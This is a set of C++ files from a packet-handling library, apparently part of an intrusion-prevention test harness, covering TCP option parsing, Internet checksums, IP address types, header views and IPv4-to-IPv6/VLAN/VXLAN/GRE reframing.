/// Signed distance from b to a (a - b) on the circle.
inline std::int32_t seq_diff(std::uint32_t a, std::uint32_t b) {
  return static_cast<std::int32_t>(a - b);
}

inline std::uint32_t seq_add(std::uint32_t a, std::uint32_t n) {
  return a + n;  // modular by construction
}

inline std::uint32_t seq_max(std::uint32_t a, std::uint32_t b) {
  return seq_lt(a, b) ? b : a;
}

inline std::uint32_t seq_min(std::uint32_t a, std::uint32_t b) {
  return seq_lt(a, b) ? a : b;
}

}  // namespace sdt::net
