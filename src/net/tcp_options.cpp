#include "net/tcp_options.hpp"

namespace sdt::net {

std::optional<std::uint16_t> find_mss(ByteView options) {
  for (TcpOptionIterator it(options); it.valid(); it.next()) {
    const TcpOption& o = it.option();
    if (o.kind == static_cast<std::uint8_t>(TcpOptionKind::mss) &&
        o.data.size() == 2) {
      return rd_u16be(o.data, 0);
    }
  }
  return std::nullopt;
}

}  // namespace sdt::net
