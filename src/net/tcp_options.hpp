// TCP option parsing and construction.
//
// An IPS must walk the options region defensively: hostile packets carry
// truncated, zero-length, or padding-abusing options, both to desynchronize
// parsers and to vary header sizes for fragmentation games. The iterator
// here never reads past the view and flags malformation explicitly.
#pragma once

#include <cstdint>
#include <optional>

#include "util/bytes.hpp"

namespace sdt::net {

enum class TcpOptionKind : std::uint8_t {
  end_of_options = 0,
  nop = 1,
  mss = 2,
  window_scale = 3,
  sack_permitted = 4,
  sack = 5,
  timestamps = 8,
};

struct TcpOption {
  std::uint8_t kind = 0;
  ByteView data;  // option payload (without kind/length bytes)
};

/// Walks the raw options bytes of a TCP header. Usage:
///
///   for (TcpOptionIterator it(tcp.options()); it.valid(); it.next()) {
///     use(it.option());
///   }
///   if (it.malformed()) { ... }   // truncated length field etc.
class TcpOptionIterator {
 public:
  explicit TcpOptionIterator(ByteView options) : rest_(options) { parse(); }

  bool valid() const { return has_current_; }
  bool malformed() const { return malformed_; }
  const TcpOption& option() const { return current_; }

  void next() {
    has_current_ = false;
    parse();
  }

 private:
  void parse() {
    while (!rest_.empty()) {
      const std::uint8_t kind = rest_[0];
      if (kind == static_cast<std::uint8_t>(TcpOptionKind::end_of_options)) {
        rest_ = {};
        return;
      }
      if (kind == static_cast<std::uint8_t>(TcpOptionKind::nop)) {
        rest_ = rest_.subspan(1);
        continue;
      }
      if (rest_.size() < 2) {
        malformed_ = true;
        rest_ = {};
        return;
      }
      const std::uint8_t len = rest_[1];
      if (len < 2 || len > rest_.size()) {
        malformed_ = true;
        rest_ = {};
        return;
      }
      current_.kind = kind;
      current_.data = rest_.subspan(2, len - 2);
      rest_ = rest_.subspan(len);
      has_current_ = true;
      return;
    }
  }

  ByteView rest_;
  TcpOption current_;
  bool has_current_ = false;
  bool malformed_ = false;
};

/// Builder for a TCP options block; pads the result to a 4-byte multiple.
class TcpOptionsBuilder {
 public:
  TcpOptionsBuilder& mss(std::uint16_t value) {
    w_.u8(2).u8(4).u16be(value);
    return *this;
  }
  TcpOptionsBuilder& window_scale(std::uint8_t shift) {
    w_.u8(3).u8(3).u8(shift);
    return *this;
  }
  TcpOptionsBuilder& sack_permitted() {
    w_.u8(4).u8(2);
    return *this;
  }
  TcpOptionsBuilder& timestamps(std::uint32_t tsval, std::uint32_t tsecr) {
    w_.u8(8).u8(10).u32be(tsval).u32be(tsecr);
    return *this;
  }
  TcpOptionsBuilder& nop() {
    w_.u8(1);
    return *this;
  }
  /// Arbitrary (possibly hostile) raw option bytes.
  TcpOptionsBuilder& raw(ByteView bytes) {
    w_.bytes(bytes);
    return *this;
  }

  /// Final options block, NOP-padded to a 4-byte multiple (max 40 bytes).
  Bytes build() {
    Bytes out = w_.take();
    while (out.size() % 4 != 0) out.push_back(1);  // NOP padding
    return out;
  }

 private:
  ByteWriter w_;
};

/// Convenience: the MSS advertised in a SYN's options, if present and
/// well-formed.
std::optional<std::uint16_t> find_mss(ByteView options);

}  // namespace sdt::net
