#include "net/checksum.hpp"

#include <cstring>

#include "net/packet.hpp"

namespace sdt::net {

namespace {

/// Byte-swap a folded 16-bit one's-complement sum. RFC 1071 §2(B): summing
/// byte-swapped words yields the byte-swapped sum, so a little-endian bulk
/// accumulation is corrected with one swap at the end.
std::uint32_t swap16(std::uint64_t folded) {
  return static_cast<std::uint32_t>(((folded & 0xffu) << 8) | (folded >> 8));
}

std::uint64_t fold16(std::uint64_t sum) {
  sum = (sum & 0xffffffffu) + (sum >> 32);
  sum = (sum & 0xffffu) + (sum >> 16);
  sum = (sum & 0xffffu) + (sum >> 16);
  sum = (sum & 0xffffu) + (sum >> 16);
  return sum;
}

}  // namespace

std::uint32_t checksum_partial(ByteView data, std::uint32_t sum) {
  const std::uint8_t* p = data.data();
  std::size_t n = data.size();

  // Bulk: accumulate native (little-endian) 64-bit loads into a 128-bit
  // accumulator — eight bytes per add instead of the classic two — then
  // fold and byte-swap the contribution back into network order. One
  // 64-bit word per iteration is already ~8x the two-bytes-per-iteration
  // scalar loop this replaced; the unrolled pair below hides the load
  // latency as well.
  if (n >= 16) {
    unsigned __int128 acc = 0;
    while (n >= 16) {
      std::uint64_t a, b;
      std::memcpy(&a, p, 8);
      std::memcpy(&b, p + 8, 8);
      acc += a;
      acc += b;
      p += 16;
      n -= 16;
    }
    if (n >= 8) {
      std::uint64_t a;
      std::memcpy(&a, p, 8);
      acc += a;
      p += 8;
      n -= 8;
    }
    std::uint64_t s =
        static_cast<std::uint64_t>(acc & ~std::uint64_t{0}) +
        static_cast<std::uint64_t>(acc >> 64);
    if (s < static_cast<std::uint64_t>(acc >> 64)) ++s;  // end-around carry
    sum += swap16(fold16(s));
  }

  // Tail (< 8 bytes) in the textbook big-endian pairing.
  std::size_t i = 0;
  for (; i + 1 < n; i += 2) {
    sum += (std::uint32_t{p[i]} << 8) | p[i + 1];
  }
  if (i < n) sum += std::uint32_t{p[i]} << 8;  // odd trailing byte
  return sum;
}

std::uint16_t checksum_finish(std::uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<std::uint16_t>(~sum & 0xffff);
}

std::uint16_t checksum(ByteView data) {
  return checksum_finish(checksum_partial(data));
}

std::uint32_t pseudo_header_sum(Ipv4Addr src, Ipv4Addr dst,
                                std::uint8_t proto, std::uint32_t length) {
  std::uint32_t sum = 0;
  sum += src.value() >> 16;
  sum += src.value() & 0xffff;
  sum += dst.value() >> 16;
  sum += dst.value() & 0xffff;
  sum += proto;
  sum += length >> 16;
  sum += length & 0xffff;
  return sum;
}

std::uint32_t pseudo_header_sum_v6(ByteView src6, ByteView dst6,
                                   std::uint8_t proto, std::uint32_t length) {
  std::uint32_t sum = 0;
  sum = checksum_partial(src6, sum);
  sum = checksum_partial(dst6, sum);
  sum += proto;
  sum += length >> 16;
  sum += length & 0xffff;
  return sum;
}

std::uint16_t transport_checksum(Ipv4Addr src, Ipv4Addr dst,
                                 std::uint8_t proto, ByteView segment) {
  std::uint32_t sum = pseudo_header_sum(
      src, dst, proto, static_cast<std::uint32_t>(segment.size()));
  sum = checksum_partial(segment, sum);
  return checksum_finish(sum);
}

std::uint16_t transport_checksum_v6(ByteView src6, ByteView dst6,
                                    std::uint8_t proto, ByteView segment) {
  std::uint32_t sum = pseudo_header_sum_v6(
      src6, dst6, proto, static_cast<std::uint32_t>(segment.size()));
  sum = checksum_partial(segment, sum);
  return checksum_finish(sum);
}

std::uint16_t transport_checksum(const PacketView& pv) {
  if (pv.has_ipv4) {
    return transport_checksum(pv.ipv4.src(), pv.ipv4.dst(),
                              pv.ipv4.protocol(), pv.l4_span);
  }
  return transport_checksum_v6(pv.ipv6.src_bytes(), pv.ipv6.dst_bytes(),
                               static_cast<std::uint8_t>(pv.proto),
                               pv.l4_span);
}

}  // namespace sdt::net
