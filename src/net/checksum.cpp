#include "net/checksum.hpp"

namespace sdt::net {

std::uint32_t checksum_partial(ByteView data, std::uint32_t sum) {
  std::size_t i = 0;
  const std::size_t n = data.size();
  for (; i + 1 < n; i += 2) {
    sum += (std::uint32_t{data[i]} << 8) | data[i + 1];
  }
  if (i < n) sum += std::uint32_t{data[i]} << 8;  // odd trailing byte
  return sum;
}

std::uint16_t checksum_finish(std::uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<std::uint16_t>(~sum & 0xffff);
}

std::uint16_t checksum(ByteView data) {
  return checksum_finish(checksum_partial(data));
}

std::uint16_t transport_checksum(Ipv4Addr src, Ipv4Addr dst,
                                 std::uint8_t proto, ByteView segment) {
  std::uint32_t sum = 0;
  sum += src.value() >> 16;
  sum += src.value() & 0xffff;
  sum += dst.value() >> 16;
  sum += dst.value() & 0xffff;
  sum += proto;
  sum += static_cast<std::uint32_t>(segment.size());
  sum = checksum_partial(segment, sum);
  return checksum_finish(sum);
}

}  // namespace sdt::net
