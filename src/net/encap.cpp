#include "net/encap.hpp"

#include "net/builder.hpp"
#include "net/checksum.hpp"
#include "util/error.hpp"

namespace sdt::net {

const char* to_string(Framing f) {
  switch (f) {
    case Framing::v4:
      return "v4";
    case Framing::v6:
      return "v6";
    case Framing::vlan:
      return "vlan";
    case Framing::qinq:
      return "qinq";
    case Framing::vxlan:
      return "vxlan";
    case Framing::gre:
      return "gre";
  }
  return "unknown";
}

Framing framing_from_string(std::string_view name) {
  for (const Framing f : {Framing::v4, Framing::v6, Framing::vlan,
                          Framing::qinq, Framing::vxlan, Framing::gre}) {
    if (name == to_string(f)) return f;
  }
  throw InvalidArgument("unknown framing '" + std::string(name) + "'");
}

IpAddr translate_v6_addr(const EncapSpec& spec, Ipv4Addr a) {
  // 0x646 ("d46" — draft-style v4-translatable marker) keeps the range
  // disjoint from v4-mapped ::ffff:0:0/96, so translated flows can never
  // collide with native-v4 flow keys.
  return IpAddr::words(spec.v6_prefix_hi,
                       (std::uint64_t{0x646} << 32) | a.value());
}

IpAddr untranslate_v6_addr(const EncapSpec& spec, IpAddr a) {
  if (a.hi() != spec.v6_prefix_hi || (a.lo() >> 32) != 0x646) return a;
  return IpAddr(Ipv4Addr(static_cast<std::uint32_t>(a.lo() & 0xffffffffu)));
}

namespace {

std::uint16_t fold16(std::uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<std::uint16_t>(sum);
}

/// Translate one IPv4 datagram (whole or fragment) to IPv6: v4-embedded
/// addresses, fragment header when the v4 header was fragmented, transport
/// checksum patched by the pseudo-header delta (RFC 1624), so validity —
/// including deliberate INVALIDITY — is preserved bit for bit.
Bytes translate_v6(const EncapSpec& spec, ByteView d) {
  if (d.size() < kIpv4MinHeaderLen || (d[0] >> 4) != 4) {
    throw InvalidArgument("reframe: need an IPv4 datagram");
  }
  const std::size_t ihl = static_cast<std::size_t>(d[0] & 0xf) * 4;
  if (ihl < kIpv4MinHeaderLen || ihl > d.size()) {
    throw InvalidArgument("reframe: impossible IHL");
  }
  const std::size_t total =
      std::min<std::size_t>(rd_u16be(d, 2), d.size());
  const ByteView body = d.subspan(ihl, total > ihl ? total - ihl : 0);
  const Ipv4Addr src4(rd_u32be(d, 12)), dst4(rd_u32be(d, 16));
  const std::uint8_t proto = d[9];
  const std::uint16_t ff = rd_u16be(d, 6);
  const std::size_t frag_off = static_cast<std::size_t>(ff & 0x1fff) * 8;
  const bool more = (ff & kIpFlagMf) != 0;
  const bool is_frag = more || frag_off != 0;

  const IpAddr src6 = translate_v6_addr(spec, src4);
  const IpAddr dst6 = translate_v6_addr(spec, dst4);

  Ipv6Spec v6;
  v6.src = src6;
  v6.dst = dst6;
  v6.hop_limit = d[8];
  if (is_frag) {
    v6.next_header = kIpv6ExtFragment;
    ByteWriter fh(kIpv6FragHeaderLen);
    fh.u8(proto);
    fh.u8(0);
    fh.u16be(static_cast<std::uint16_t>(frag_off | (more ? 1 : 0)));
    fh.u32be(rd_u16be(d, 4));  // v4 16-bit id, zero-extended
    v6.ext = fh.take();
  } else {
    v6.next_header = proto;
  }
  Bytes out = build_ipv6(v6, body);

  // Pseudo-header checksum delta. The length and protocol terms are
  // identical on both sides, so the delta is the address sums alone —
  // which also makes it fragment-safe (the v4 pseudo length of the whole
  // segment is unknown from one fragment, and does not matter).
  const bool checksummed =
      proto == static_cast<std::uint8_t>(IpProto::tcp) ||
      proto == static_cast<std::uint8_t>(IpProto::udp);
  if (checksummed && !body.empty()) {
    const std::size_t csum_off =
        proto == static_cast<std::uint8_t>(IpProto::tcp) ? 16 : 6;
    // Does THIS datagram carry the checksum field's two bytes?
    if (frag_off <= csum_off && csum_off + 2 <= frag_off + body.size()) {
      std::uint8_t s[16], dd[16];
      src6.to_bytes(s);
      dst6.to_bytes(dd);
      const std::uint16_t a4 = fold16(pseudo_header_sum(src4, dst4, 0, 0));
      const std::uint16_t a6 = fold16(
          pseudo_header_sum_v6(ByteView(s, 16), ByteView(dd, 16), 0, 0));
      const std::size_t field =
          out.size() - body.size() + (csum_off - frag_off);
      const std::uint16_t c = rd_u16be(out, field);
      wr_u16be(out, field,
               fold16(std::uint32_t{c} + a4 +
                      static_cast<std::uint16_t>(~a6 & 0xffff)));
    }
  }
  return out;
}

}  // namespace

Bytes reframe(const EncapSpec& spec, ByteView ipv4_datagram) {
  switch (spec.framing) {
    case Framing::v4:
      return Bytes(ipv4_datagram.begin(), ipv4_datagram.end());
    case Framing::v6:
      return translate_v6(spec, ipv4_datagram);
    case Framing::vlan:
      return wrap_vlan(wrap_ethernet(ipv4_datagram), spec.vlan_id);
    case Framing::qinq:
      return wrap_vlan(
          wrap_vlan(wrap_ethernet(ipv4_datagram), spec.vlan_id),
          spec.vlan_outer_id, kEtherTypeQinQ);
    case Framing::vxlan: {
      Ipv4Spec outer;
      outer.src = spec.tunnel_src;
      outer.dst = spec.tunnel_dst;
      return wrap_vxlan(outer, spec.vxlan_src_port, spec.vni,
                        wrap_ethernet(ipv4_datagram));
    }
    case Framing::gre: {
      Ipv4Spec outer;
      outer.src = spec.tunnel_src;
      outer.dst = spec.tunnel_dst;
      return wrap_gre(outer, ipv4_datagram);
    }
  }
  throw InvalidArgument("reframe: unknown framing");
}

}  // namespace sdt::net
