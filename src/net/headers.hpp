// Header view classes: zero-copy accessors over validated header bytes.
//
// A view is only constructed by PacketView::parse (or by tests that know the
// bytes are long enough); accessors are then unchecked single loads. This
// keeps bounds checks to one per layer on the fast path, per the design of
// high-speed packet pipelines.
#pragma once

#include <cstdint>

#include "net/addr.hpp"
#include "util/bytes.hpp"

namespace sdt::net {

enum class IpProto : std::uint8_t {
  icmp = 1,
  tcp = 6,
  udp = 17,
  gre = 47,
};

/// pcap link-layer types we understand (values match the pcap spec).
/// raw_ipv4 (DLT_RAW, 101) carries bare IP datagrams of either version —
/// the name is historical; the version nibble disambiguates.
enum class LinkType : std::uint32_t {
  ethernet = 1,
  raw_ipv4 = 101,
};

// TCP flag bits (low byte of the flags field).
inline constexpr std::uint8_t kTcpFin = 0x01;
inline constexpr std::uint8_t kTcpSyn = 0x02;
inline constexpr std::uint8_t kTcpRst = 0x04;
inline constexpr std::uint8_t kTcpPsh = 0x08;
inline constexpr std::uint8_t kTcpAck = 0x10;
inline constexpr std::uint8_t kTcpUrg = 0x20;

inline constexpr std::size_t kEthernetHeaderLen = 14;
inline constexpr std::uint16_t kEtherTypeIpv4 = 0x0800;
inline constexpr std::uint16_t kEtherTypeIpv6 = 0x86dd;
inline constexpr std::uint16_t kEtherTypeVlan = 0x8100;   // 802.1Q C-tag
inline constexpr std::uint16_t kEtherTypeQinQ = 0x88a8;   // 802.1ad S-tag
inline constexpr std::size_t kVlanTagLen = 4;             // TPID + TCI
/// Deepest 802.1Q stack we deliver; a third tag is treated as non-IP.
inline constexpr std::size_t kMaxVlanTags = 2;
inline constexpr std::size_t kIpv4MinHeaderLen = 20;
inline constexpr std::size_t kIpv6HeaderLen = 40;
inline constexpr std::size_t kIpv6FragHeaderLen = 8;
/// Bound on the IPv6 extension-header walk; a longer chain is rejected as
/// bad_ext_header (evasion surface: unbounded chains stall the parser).
inline constexpr std::size_t kMaxIpv6ExtHeaders = 8;
// IPv6 extension-header next-header values we walk through.
inline constexpr std::uint8_t kIpv6ExtHopByHop = 0;
inline constexpr std::uint8_t kIpv6ExtRouting = 43;
inline constexpr std::uint8_t kIpv6ExtFragment = 44;
inline constexpr std::uint8_t kIpv6ExtDestOpts = 60;
inline constexpr std::size_t kTcpMinHeaderLen = 20;
inline constexpr std::size_t kUdpHeaderLen = 8;
inline constexpr std::uint16_t kVxlanPort = 4789;
inline constexpr std::size_t kVxlanHeaderLen = 8;
/// VXLAN flags byte: only the I bit (valid VNI) may be set.
inline constexpr std::uint8_t kVxlanFlags = 0x08;
inline constexpr std::size_t kGreMinHeaderLen = 4;

// IPv4 fragmentation bits in the flags/fragment-offset field.
inline constexpr std::uint16_t kIpFlagDf = 0x4000;
inline constexpr std::uint16_t kIpFlagMf = 0x2000;
inline constexpr std::uint16_t kIpFragOffsetMask = 0x1fff;

/// View over an Ethernet II header. `data` must hold ≥ 14 bytes.
class EthernetView {
 public:
  explicit EthernetView(ByteView h) : h_(h) {}
  ByteView dst_mac() const { return h_.subspan(0, 6); }
  ByteView src_mac() const { return h_.subspan(6, 6); }
  std::uint16_t ether_type() const { return rd_u16be(h_, 12); }

 private:
  ByteView h_;
};

/// View over an IPv4 header. `h` must hold the full header (ihl bytes).
class Ipv4View {
 public:
  Ipv4View() = default;
  explicit Ipv4View(ByteView h) : h_(h) {}

  std::uint8_t version() const { return h_[0] >> 4; }
  std::size_t header_len() const { return std::size_t{h_[0] & 0xfu} * 4; }
  std::uint8_t tos() const { return h_[1]; }
  std::uint16_t total_length() const { return rd_u16be(h_, 2); }
  std::uint16_t id() const { return rd_u16be(h_, 4); }
  std::uint16_t flags_frag() const { return rd_u16be(h_, 6); }
  bool dont_fragment() const { return (flags_frag() & kIpFlagDf) != 0; }
  bool more_fragments() const { return (flags_frag() & kIpFlagMf) != 0; }
  /// Fragment offset in bytes (the wire field is in 8-byte units).
  std::size_t fragment_offset() const {
    return static_cast<std::size_t>(flags_frag() & kIpFragOffsetMask) * 8;
  }
  /// True if this datagram is any fragment of a larger one.
  bool is_fragment() const {
    return more_fragments() || fragment_offset() != 0;
  }
  std::uint8_t ttl() const { return h_[8]; }
  std::uint8_t protocol() const { return h_[9]; }
  std::uint16_t header_checksum() const { return rd_u16be(h_, 10); }
  Ipv4Addr src() const { return Ipv4Addr{rd_u32be(h_, 12)}; }
  Ipv4Addr dst() const { return Ipv4Addr{rd_u32be(h_, 16)}; }
  ByteView options() const {
    return h_.subspan(kIpv4MinHeaderLen, header_len() - kIpv4MinHeaderLen);
  }
  ByteView raw() const { return h_; }

 private:
  ByteView h_;
};

/// View over the fixed 40-byte IPv6 base header.
class Ipv6View {
 public:
  Ipv6View() = default;
  explicit Ipv6View(ByteView h) : h_(h) {}

  std::uint8_t version() const { return h_[0] >> 4; }
  std::uint16_t payload_length() const { return rd_u16be(h_, 4); }
  std::uint8_t next_header() const { return h_[6]; }
  std::uint8_t hop_limit() const { return h_[7]; }
  IpAddr src() const { return IpAddr::v6(h_.data() + 8); }
  IpAddr dst() const { return IpAddr::v6(h_.data() + 24); }
  ByteView src_bytes() const { return h_.subspan(8, 16); }
  ByteView dst_bytes() const { return h_.subspan(24, 16); }
  ByteView raw() const { return h_; }

 private:
  ByteView h_;
};

/// View over a TCP header. `h` must hold the full header (data-offset bytes).
class TcpView {
 public:
  TcpView() = default;
  explicit TcpView(ByteView h) : h_(h) {}

  std::uint16_t src_port() const { return rd_u16be(h_, 0); }
  std::uint16_t dst_port() const { return rd_u16be(h_, 2); }
  std::uint32_t seq() const { return rd_u32be(h_, 4); }
  std::uint32_t ack() const { return rd_u32be(h_, 8); }
  std::size_t header_len() const {
    return static_cast<std::size_t>(h_[12] >> 4) * 4;
  }
  std::uint8_t flags() const { return h_[13]; }
  bool fin() const { return (flags() & kTcpFin) != 0; }
  bool syn() const { return (flags() & kTcpSyn) != 0; }
  bool rst() const { return (flags() & kTcpRst) != 0; }
  bool psh() const { return (flags() & kTcpPsh) != 0; }
  bool ack_flag() const { return (flags() & kTcpAck) != 0; }
  bool urg() const { return (flags() & kTcpUrg) != 0; }
  std::uint16_t window() const { return rd_u16be(h_, 14); }
  std::uint16_t checksum() const { return rd_u16be(h_, 16); }
  std::uint16_t urgent_pointer() const { return rd_u16be(h_, 18); }
  ByteView options() const {
    return h_.subspan(kTcpMinHeaderLen, header_len() - kTcpMinHeaderLen);
  }
  ByteView raw() const { return h_; }

 private:
  ByteView h_;
};

/// View over a UDP header (fixed 8 bytes).
class UdpView {
 public:
  UdpView() = default;
  explicit UdpView(ByteView h) : h_(h) {}

  std::uint16_t src_port() const { return rd_u16be(h_, 0); }
  std::uint16_t dst_port() const { return rd_u16be(h_, 2); }
  std::uint16_t length() const { return rd_u16be(h_, 4); }
  std::uint16_t checksum() const { return rd_u16be(h_, 6); }

 private:
  ByteView h_;
};

}  // namespace sdt::net
