// Deterministic re-framing of IPv4 datagrams into the wider traffic
// universe: IPv6 translation, 802.1Q tagging, VXLAN/GRE tunneling.
//
// The evasion library and the fuzz generator both forge raw IPv4 datagrams;
// reframe() is the post-pass that carries an entire schedule into another
// encapsulation WITHOUT changing any byte the detection engines reason
// about. In particular the v4→v6 translation patches the transport checksum
// by the pseudo-header delta only (RFC 1624 incremental update), so a
// deliberately corrupted checksum stays exactly as corrupted — same attack
// bytes, same verdicts, any framing.
#pragma once

#include <cstdint>
#include <string_view>

#include "net/addr.hpp"
#include "net/headers.hpp"
#include "util/bytes.hpp"

namespace sdt::net {

/// The framings the generator and golden traces exercise. v4 is the
/// identity; everything else wraps or translates the forged v4 datagram.
enum class Framing : std::uint8_t {
  v4 = 0,     // raw IPv4 datagram (the forge's native output)
  v6 = 1,     // translated to IPv6 (addresses v4-embedded, checksum delta)
  vlan = 2,   // Ethernet + one 802.1Q tag
  qinq = 3,   // Ethernet + 802.1ad outer tag + 802.1Q inner tag
  vxlan = 4,  // inner Ethernet frame inside VXLAN/UDP/IPv4
  gre = 5,    // inner datagram inside GRE/IPv4
};

const char* to_string(Framing f);

/// Inverse of to_string; throws InvalidArgument on an unknown name.
Framing framing_from_string(std::string_view name);

/// Parameters of a re-framing pass. Every field is deterministic state, so
/// (schedule, spec) reproduces byte-identical traffic.
struct EncapSpec {
  Framing framing = Framing::v4;
  std::uint16_t vlan_id = 100;        // inner (or only) 802.1Q tag
  std::uint16_t vlan_outer_id = 200;  // outer 802.1ad tag for qinq
  Ipv4Addr tunnel_src{192, 0, 2, 1};  // outer endpoints for vxlan/gre
  Ipv4Addr tunnel_dst{192, 0, 2, 2};
  std::uint32_t vni = 4097;
  std::uint16_t vxlan_src_port = 49152;
  /// hi word of translated IPv6 addresses (v6 framing). The low word is
  /// 0x646 ("d46") shifted | the original v4 address, so translated
  /// addresses collide with nothing v4-mapped.
  std::uint64_t v6_prefix_hi = 0x20010db800000000ull;

  /// pcap/dispatcher link type the re-framed traffic needs.
  LinkType link() const {
    return (framing == Framing::vlan || framing == Framing::qinq)
               ? LinkType::ethernet
               : LinkType::raw_ipv4;
  }
};

/// Map a v4 address into the spec's deterministic IPv6 range.
IpAddr translate_v6_addr(const EncapSpec& spec, Ipv4Addr a);

/// Inverse: an address in the spec's translated range comes back as its
/// v4-mapped original; anything else returns unchanged. Lets verdict-parity
/// checks compare v4 and v6 runs of the same schedules key for key.
IpAddr untranslate_v6_addr(const EncapSpec& spec, IpAddr a);

/// Re-frame one forged IPv4 datagram according to `spec`. The input must be
/// a raw IPv4 datagram (whole or fragment, hostile headers allowed as long
/// as the base 20-byte header parses); the output is a frame of
/// spec.link()'s type. Framing::v4 returns the input unchanged.
///
/// Throws InvalidArgument if the input is too broken to carry (shorter than
/// a base header, IHL lies) — the generator never forges such datagrams.
Bytes reframe(const EncapSpec& spec, ByteView ipv4_datagram);

}  // namespace sdt::net
