// IPv4 address strong type. Stored in host byte order; serialization to the
// wire is explicit via the packet builder/parser.
#pragma once

#include <compare>
#include <cstdint>
#include <string>

namespace sdt::net {

class Ipv4Addr {
 public:
  constexpr Ipv4Addr() = default;
  constexpr explicit Ipv4Addr(std::uint32_t host_order) : v_(host_order) {}
  constexpr Ipv4Addr(std::uint8_t a, std::uint8_t b, std::uint8_t c,
                     std::uint8_t d)
      : v_((std::uint32_t{a} << 24) | (std::uint32_t{b} << 16) |
           (std::uint32_t{c} << 8) | std::uint32_t{d}) {}

  constexpr std::uint32_t value() const { return v_; }

  friend constexpr auto operator<=>(Ipv4Addr, Ipv4Addr) = default;

  std::string str() const {
    return std::to_string((v_ >> 24) & 0xff) + "." +
           std::to_string((v_ >> 16) & 0xff) + "." +
           std::to_string((v_ >> 8) & 0xff) + "." + std::to_string(v_ & 0xff);
  }

 private:
  std::uint32_t v_ = 0;
};

}  // namespace sdt::net
