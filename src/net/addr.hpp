// IP address strong types. Ipv4Addr stores host byte order; IpAddr is the
// version-agnostic 128-bit identity the flow layer keys on (IPv4 addresses
// embed as v4-mapped ::ffff:a.b.c.d, so v4 and v6 flows share one key
// space without collisions). Serialization to the wire is explicit via the
// packet builder/parser.
#pragma once

#include <compare>
#include <cstdint>
#include <cstdio>
#include <string>

namespace sdt::net {

class Ipv4Addr {
 public:
  constexpr Ipv4Addr() = default;
  constexpr explicit Ipv4Addr(std::uint32_t host_order) : v_(host_order) {}
  constexpr Ipv4Addr(std::uint8_t a, std::uint8_t b, std::uint8_t c,
                     std::uint8_t d)
      : v_((std::uint32_t{a} << 24) | (std::uint32_t{b} << 16) |
           (std::uint32_t{c} << 8) | std::uint32_t{d}) {}

  constexpr std::uint32_t value() const { return v_; }

  friend constexpr auto operator<=>(Ipv4Addr, Ipv4Addr) = default;

  std::string str() const {
    return std::to_string((v_ >> 24) & 0xff) + "." +
           std::to_string((v_ >> 16) & 0xff) + "." +
           std::to_string((v_ >> 8) & 0xff) + "." + std::to_string(v_ & 0xff);
  }

 private:
  std::uint32_t v_ = 0;
};

/// 128-bit address holding either an IPv6 address or a v4-mapped IPv4 one
/// (::ffff:a.b.c.d). Stored as two host-order words of the big-endian
/// 16-byte form, so comparison order matches wire order.
class IpAddr {
 public:
  constexpr IpAddr() = default;

  /// Implicit on purpose: every Ipv4Addr has exactly one v4-mapped identity,
  /// so v4-era call sites (flow keys, defrag keys, tests) keep reading
  /// naturally against the widened type.
  constexpr IpAddr(Ipv4Addr a)  // NOLINT(google-explicit-constructor)
      : lo_((std::uint64_t{0xffff} << 32) | a.value()) {}

  static constexpr IpAddr v4(Ipv4Addr a) { return IpAddr(a); }

  /// From the two host-order words of the big-endian 16-byte form.
  static constexpr IpAddr words(std::uint64_t hi, std::uint64_t lo) {
    IpAddr r;
    r.hi_ = hi;
    r.lo_ = lo;
    return r;
  }

  /// From 16 big-endian bytes (the wire form of an IPv6 address).
  static IpAddr v6(const std::uint8_t* b) {
    IpAddr r;
    for (int i = 0; i < 8; ++i) r.hi_ = (r.hi_ << 8) | b[i];
    for (int i = 8; i < 16; ++i) r.lo_ = (r.lo_ << 8) | b[i];
    return r;
  }

  constexpr std::uint64_t hi() const { return hi_; }
  constexpr std::uint64_t lo() const { return lo_; }

  constexpr bool is_v4() const {
    return hi_ == 0 && (lo_ >> 32) == 0xffff;
  }
  constexpr Ipv4Addr to_v4() const {
    return Ipv4Addr{static_cast<std::uint32_t>(lo_ & 0xffffffffu)};
  }

  /// Serialize to 16 big-endian bytes.
  void to_bytes(std::uint8_t* b) const {
    for (int i = 0; i < 8; ++i) b[i] = static_cast<std::uint8_t>(hi_ >> (56 - 8 * i));
    for (int i = 0; i < 8; ++i) b[8 + i] = static_cast<std::uint8_t>(lo_ >> (56 - 8 * i));
  }

  friend constexpr auto operator<=>(IpAddr, IpAddr) = default;

  /// v4-mapped addresses render as the dotted quad (flow keys and alert
  /// JSON stay byte-identical for IPv4 traffic); v6 as the full
  /// uncompressed 8-group hex form (deterministic, no :: shortening).
  std::string str() const {
    if (is_v4()) return to_v4().str();
    char buf[40];
    std::snprintf(buf, sizeof buf, "%x:%x:%x:%x:%x:%x:%x:%x",
                  static_cast<unsigned>(hi_ >> 48) & 0xffff,
                  static_cast<unsigned>(hi_ >> 32) & 0xffff,
                  static_cast<unsigned>(hi_ >> 16) & 0xffff,
                  static_cast<unsigned>(hi_) & 0xffff,
                  static_cast<unsigned>(lo_ >> 48) & 0xffff,
                  static_cast<unsigned>(lo_ >> 32) & 0xffff,
                  static_cast<unsigned>(lo_ >> 16) & 0xffff,
                  static_cast<unsigned>(lo_) & 0xffff);
    return buf;
  }

 private:
  std::uint64_t hi_ = 0;
  std::uint64_t lo_ = 0;
};

}  // namespace sdt::net
