// RFC 1071 Internet checksum, plus the TCP/UDP pseudo-header variant.
#pragma once

#include <cstdint>

#include "net/addr.hpp"
#include "util/bytes.hpp"

namespace sdt::net {

/// One's-complement sum of the data, not yet folded or complemented.
/// Useful for incremental composition (pseudo-header + segment).
std::uint32_t checksum_partial(ByteView data, std::uint32_t sum = 0);

/// Fold a partial sum and complement it into a final checksum value.
std::uint16_t checksum_finish(std::uint32_t sum);

/// Checksum over a single buffer (IPv4 header checksum).
std::uint16_t checksum(ByteView data);

/// TCP/UDP checksum: pseudo-header(src, dst, proto, length) + segment bytes.
/// `segment` must contain the transport header with its checksum field
/// zeroed (when computing) or as received (when verifying — result 0 means
/// valid).
std::uint16_t transport_checksum(Ipv4Addr src, Ipv4Addr dst,
                                 std::uint8_t proto, ByteView segment);

/// IPv6 variant (RFC 8200 §8.1): 16-byte addresses, 32-bit length. `src6`
/// and `dst6` are the big-endian wire bytes of the addresses.
std::uint16_t transport_checksum_v6(ByteView src6, ByteView dst6,
                                    std::uint8_t proto, ByteView segment);

struct PacketView;
